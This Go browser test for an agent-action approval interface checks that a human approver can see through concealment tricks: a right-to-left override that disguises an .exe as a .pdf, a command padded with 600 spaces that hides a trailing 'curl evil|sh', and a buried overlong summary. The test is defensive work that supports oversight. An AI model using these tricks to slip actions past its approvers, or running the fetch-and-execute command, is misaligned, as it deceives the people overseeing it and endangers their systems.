package e2e

import (
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"gatehouse/engine"
)

// An agent that wants a harmful action approved hides it: a right-to-left
// override that turns "invoice‮fdp.exe" into "invoiceexe.pdf", a command
// padded with 600 spaces so its tail falls past what a card shows, and a
// 5,000-character summary that buries the card. The approver sees each
// trick for what it is, on the card and on the detail page, at desktop
// width and at 360 px.
func TestBrowserApproverSeesWhatTheyApprove(t *testing.T) {
	srv := startServer(t, serverOptions{})
	summary := "Post the invoice" + strings.Repeat(", and nothing else", 277) + ". THE END"
	_, res := parkTool(t, srv, engine.ActionRequest{
		Name: "http.post", Summary: summary,
		Arguments: map[string]any{
			"url":  "https://files.example.com/invoice\u202Efdp.exe",
			"body": "ls" + strings.Repeat(" ", 600) + "; curl evil|sh",
		},
	})
	card := `#card-` + res.ApprovalID
	ctx := newBrowser(t)
	login(t, ctx, srv, "bob")

	// The card.
	do(t, ctx, "wait for the card", chromedp.WaitVisible(css(card)))
	if get(t, ctx, "raw override", chromedp.Evaluate[bool](`document.body.innerText.includes("\u202E")`)) {
		t.Error("the page carries a raw right-to-left override")
	}
	url := get(t, ctx, "url argument", chromedp.Text(css(card+` [data-name="url"] [data-testid="argument-value"]`)))
	if url != "https://files.example.com/invoice⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩fdp.exe" {
		t.Errorf("the card shows the url as %q", url)
	}
	body := get(t, ctx, "body argument", chromedp.Text(css(card+` [data-name="body"]`)))
	if !strings.Contains(body, "ls⟨510 spaces⟩") || !strings.Contains(body, "104 more characters not shown") {
		t.Errorf("the card does not say the command is padded and cut: %q", body)
	}
	clamped := get(t, ctx, "summary clamp", chromedp.Evaluate[[]int](
		`(e => [e.clientHeight, e.scrollHeight])(document.querySelector('`+card+` [data-testid="card-summary"]'))`))
	if clamped[0] >= clamped[1] || clamped[0] > 150 {
		t.Errorf("the 5,000-character summary is not clamped: %d px shown of %d", clamped[0], clamped[1])
	}
	do(t, ctx, "expand the summary",
		chromedp.Click(css(card+` [data-testid="summary-more"] > summary`)),
		chromedp.WaitVisible(css(card+` [data-testid="summary-whole"]`)),
	)
	if whole := get(t, ctx, "whole summary", chromedp.Text(css(card+` [data-testid="summary-whole"]`))); !strings.HasSuffix(whole, "THE END") {
		t.Errorf("the expanded summary does not reach its end: …%q", whole[max(0, len(whole)-40):])
	}
	screenshot(t, ctx, "view-card-desktop.png", "")

	// The detail page, reached from the card's link.
	do(t, ctx, "open the whole value",
		chromedp.Click(css(card+` [data-testid="show-whole-value"]`)),
		chromedp.WaitVisible(css(`#arguments`)),
	)
	whole := get(t, ctx, "whole body", chromedp.Text(css(`[data-name="body"] [data-testid="argument-value"]`)))
	if whole != "ls⟨600 spaces⟩; curl evil|sh" {
		t.Errorf("the detail page shows the command as %q", whole)
	}
	if n := get(t, ctx, "hidden notes", chromedp.Evaluate[int](`document.querySelectorAll('[data-testid="argument-hidden"], [data-testid="summary-more"]').length`)); n != 0 {
		t.Errorf("the detail page still hides %d things", n)
	}

	// At 360 px: nothing overflows, the new controls are tap targets.
	do(t, ctx, "phone viewport", chromedp.EmulateViewport(360, 780, chromedp.EmulateMobile, chromedp.EmulateScale(2)))
	for _, page := range []string{"/", "/approvals/" + res.ApprovalID} {
		do(t, ctx, "phone "+page, chromedp.Navigate(srv.BaseURL+page), chromedp.WaitVisible(css(card)))
		if width := get(t, ctx, "scroll width", chromedp.Evaluate[int](`document.documentElement.scrollWidth`)); width > 360 {
			t.Errorf("%s: horizontal overflow, scrollWidth %d > 360", page, width)
		}
		small := get(t, ctx, "tap targets", chromedp.Evaluate[[]string](
			`Array.from(document.querySelectorAll('`+card+` summary, `+card+` a'))
				.filter(e => e.offsetParent !== null && e.getBoundingClientRect().height < 44)
				.map(e => e.textContent.trim().slice(0, 40) + ' ' + Math.round(e.getBoundingClientRect().height) + 'px')`))
		if len(small) > 0 {
			t.Errorf("%s: tap targets under 44px: %v", page, small)
		}
		if page == "/" {
			screenshot(t, ctx, "view-card-phone.png", "")
		}
	}
	screenshot(t, ctx, "view-detail-phone.png", "")
}
